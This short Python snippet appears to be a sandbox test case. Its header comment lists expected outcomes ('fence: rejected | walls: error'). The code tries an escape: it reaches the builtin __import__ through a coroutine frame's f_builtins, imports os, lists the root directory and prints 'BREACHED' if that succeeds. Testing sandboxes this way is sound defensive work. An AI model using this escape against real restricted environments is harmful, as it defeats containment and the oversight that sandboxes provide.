# fence: rejected | walls: error
from client_sdk import Row
os = Row().__await__().gi_frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
